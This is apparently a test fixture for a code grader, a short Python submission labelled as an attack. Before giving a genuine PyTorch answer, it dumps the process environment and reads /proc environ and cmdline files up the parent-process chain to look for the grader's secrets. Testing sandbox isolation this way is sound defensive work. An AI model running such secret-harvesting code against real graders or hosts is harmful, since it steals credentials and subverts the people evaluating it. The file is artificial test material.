# attack: look for the grader's secrets in the environment: os.environ, /proc/self/environ, every ancestor's environ
# expect-status: passed
import os

import torch

print("environ", dict(os.environ))
pid = os.getpid()
while pid > 1:
    for what in ("environ", "cmdline"):
        try:
            with open(f"/proc/{pid}/{what}", "rb") as handle:
                print(pid, what, handle.read().replace(b"\0", b" ").decode(errors="replace"))
        except OSError as exc:
            print(pid, what, "refused", exc.errno)
    try:
        with open(f"/proc/{pid}/stat") as handle:
            pid = int(handle.read().rsplit(")", 1)[1].split()[1])
    except (OSError, ValueError, IndexError):
        break


def q_backward(a, b):
    Q = 3 * a**3 - b**2
    Q.backward(torch.ones_like(Q))
    return Q
